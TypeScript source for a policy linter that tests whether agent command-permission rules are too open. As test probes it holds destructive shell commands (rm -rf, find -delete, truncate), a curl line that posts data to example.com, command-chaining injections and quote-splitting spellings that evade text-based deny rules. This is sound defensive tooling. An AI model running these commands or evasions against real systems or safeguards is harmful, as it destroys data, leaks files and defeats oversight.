/** Rules about commands that say less than they seem to. */

import type { CheckRequest } from '../loaded-policy.ts';
import { conditionParts, type ConditionPart } from '../condition-parts.ts';
import { argumentsWith } from '../sample-args.ts';
import { type BookRule, titleOf } from '../rule-book.ts';
import { findingAt, type LintFinding, witnessOf } from './finding.ts';
import type { LintSubject, Shown } from './lint-subject.ts';
import { isTold, toldLines } from './told-programs.ts';

/** What nobody means to allow. */
const ruin = 'rm -rf ./build';
const harms = [ruin, 'find . -delete', 'truncate -s 0 data', 'curl -d @data https://example.com/'];
/** What somebody may mean to allow who says where. */
const change = 'touch data';

export async function commandRules(subject: LintSubject): Promise<readonly LintFinding[]> {
  const findings: LintFinding[] = [];
  for (const entry of subject.enforced) {
    const lines = (texts: readonly string[]): readonly CheckRequest[] => commandCalls(entry, texts, subject);
    if (lines([ruin]).length === 0) continue;
    const parts = entry.rule.when === undefined ? [] : conditionParts(entry.rule.when.text);
    const found = [
      entry.rule.effect === 'allow' ? await allowFinding({ entry, parts, lines }, subject) : undefined,
      await textFinding({ entry, parts, lines }, subject),
    ];
    findings.push(...found.filter((finding) => finding !== undefined));
  }
  return findings;
}

interface CommandRule {
  readonly entry: BookRule;
  readonly parts: readonly ConditionPart[];
  /** Calls that run a line, of the tools the rule is about. */
  readonly lines: (texts: readonly string[]) => readonly CheckRequest[];
}

function commandCalls(entry: BookRule, texts: readonly string[], subject: LintSubject): readonly CheckRequest[] {
  return subject.reach.classesOf(entry).flatMap((each) => {
    const names = each.declared === undefined ? [] : argumentsWith('command', each.declared);
    const { server, tool } = each;
    const home = server === undefined ? { tool } : { tool, server };
    return names.flatMap((name) => texts.map((text) => ({ ...home, args: { [name]: text } })));
  });
}

type Words = Pick<LintFinding, 'kind' | 'severity' | 'message' | 'hint'>;

function told(entry: BookRule, { call, explanation }: Shown, words: Words): LintFinding {
  const shows = `${titleOf(entry)} ${explanation.decision.effect === 'allow' ? 'allows' : 'decides'} it.`;
  return findingAt(entry, { ...words, witness: witnessOf(call, explanation.decision, shows) });
}

/** The gravest thing that can be said of an allow. */
async function allowFinding(rule: CommandRule, subject: LintSubject): Promise<LintFinding | undefined> {
  return (
    (await openCommand(rule, subject)) ?? (await toldProgram(rule, subject)) ?? (await oneCommandOnly(rule, subject))
  );
}

async function openCommand(
  { entry, parts, lines }: CommandRule,
  subject: LintSubject,
): Promise<LintFinding | undefined> {
  const refused = parts.flatMap((part) =>
    part.type === 'fact' && part.name === 'runs' && part.negated ? part.entries : [],
  );
  const isPlaced = parts.some((part) => part.type === 'fact' && part.name === 'writesInside' && !part.negated);
  const shown = await subject.decidedBy(entry, lines(isPlaced ? harms : [...harms, change]));
  if (shown === undefined) return undefined;
  if (refused.length > 0) {
    return told(entry, shown, {
      kind: 'deny-list',
      severity: 'warning',
      message: `This rule allows every command but ${refused.join(', ')}; there is always another way to do the same.`,
      hint: 'Name what may run, with runsOnly.',
    });
  }
  return told(entry, shown, {
    kind: 'open-command',
    severity: 'warning',
    message: 'This rule lets any command run.',
    hint: 'Give it a condition with runsOnly, or ask.',
  });
}

async function toldProgram(
  { entry, parts, lines }: CommandRule,
  subject: LintSubject,
): Promise<LintFinding | undefined> {
  const named = parts.flatMap((part) =>
    part.type === 'fact' && /^runs(Only)?$/.test(part.name) && !part.negated ? part.entries : [],
  );
  for (const program of new Set(named)) {
    const calls = lines(toldLines(program));
    const words = { kind: 'interpreter', severity: 'warning' } as const;
    const hint = 'Allow the exact commands it is needed for, or ask.';
    const shown = await subject.decidedBy(entry, calls);
    const message = `This rule allows ${program}, which runs whatever it is told to.`;
    if (shown !== undefined) return told(entry, shown, { ...words, message, hint });
    const [first] = lines([...toldLines(program), `${program} ./script`]);
    if (first === undefined || !isTold(program)) continue;
    const refused = await subject.ask(first);
    if (subject.outcomeOf(entry, refused) === undefined) continue;
    const { decision } = refused.explanation;
    return findingAt(entry, {
      ...words,
      message: `This rule names ${program}, which runs whatever it is told to: so it allows nothing of that.`,
      hint: 'Name the whole command that is meant.',
      witness: witnessOf(refused.call, decision, `${titleOf(entry)} does not allow it.`),
    });
  }
  return undefined;
}

async function oneCommandOnly(
  { entry, parts, lines }: CommandRule,
  subject: LintSubject,
): Promise<LintFinding | undefined> {
  const entries = parts.flatMap((part) =>
    part.type === 'fact' && part.name === 'runs' && !part.negated ? part.entries : [],
  );
  const shown = await subject.decidedBy(
    entry,
    lines(entries.flatMap((each) => harms.map((harm) => `${each}; ${harm}`))),
  );
  if (shown === undefined) return undefined;
  return told(entry, shown, {
    kind: 'runs-in-allow',
    severity: 'warning',
    message: 'runs holds if one command of a line is meant, whatever the others are.',
    hint: 'In an allow, use runsOnly.',
  });
}

/** A text has many spellings that bash takes for one. */
async function textFinding(rule: CommandRule, subject: LintSubject): Promise<LintFinding | undefined> {
  const { entry, parts, lines } = rule;
  const commands = commandNames(entry, subject);
  const part = parts.find(
    (each) => each.type === 'text' && each.path[0] === 'args' && commands.has(each.path[1] ?? ''),
  );
  if (part?.type !== 'text') return undefined;
  const words: Words = {
    kind: 'command-text',
    severity: 'warning',
    message: `This condition looks at the text of a command (${part.method} ${JSON.stringify(part.literal)}); the same command has many spellings.`,
    hint: 'Use runs, runsOnly or writes, which look at what would be executed.',
  };
  const { literal } = part;
  if (entry.rule.effect === 'allow') {
    const tricks = [
      `${literal}; ${ruin}`,
      `${ruin} # ${literal}`,
      `${literal}\n${ruin}`,
      `: ${literal}; ${ruin}`,
      ruin,
    ];
    const shown = (await subject.decidedBy(entry, lines(tricks))) ?? (await subject.decidedBy(entry));
    return shown === undefined ? undefined : told(entry, shown, words);
  }
  const shown = await evading(rule, literal, subject);
  if (shown === undefined) return undefined;
  const { call, explanation } = shown;
  const does = subject.outcomeOf(entry, shown) === 'decided' ? 'decides it' : 'does not apply to it';
  return findingAt(entry, { ...words, witness: witnessOf(call, explanation.decision, `${titleOf(entry)} ${does}.`) });
}

/** A line that does what the text says and that the rule does not decide; else one that it does. */
async function evading(
  { entry, lines }: CommandRule,
  literal: string,
  subject: LintSubject,
): Promise<Shown | undefined> {
  const word = literal.trim();
  const spelled = word.length > 1 ? `${word[0]}''${word.slice(1)}` : `"${word}"`;
  for (const call of lines([spelled, `${spelled} x`, `$(printf %s '${word[0]}')${word.slice(1)}`])) {
    const shown = await subject.ask(call);
    if (subject.outcomeOf(entry, shown) === 'did not apply') return shown;
  }
  return subject.decidedBy(entry);
}

function commandNames(entry: BookRule, subject: LintSubject): ReadonlySet<string> {
  const declared = subject.reach.classesOf(entry).flatMap((each) => each.declared ?? []);
  return new Set(
    declared.flatMap((tool) => {
      const names = argumentsWith('command', tool);
      const aliases = Object.entries(tool.aliases?.args ?? {});
      return [...names, ...aliases.filter(([, name]) => names.includes(name)).map(([alias]) => alias)];
    }),
  );
}
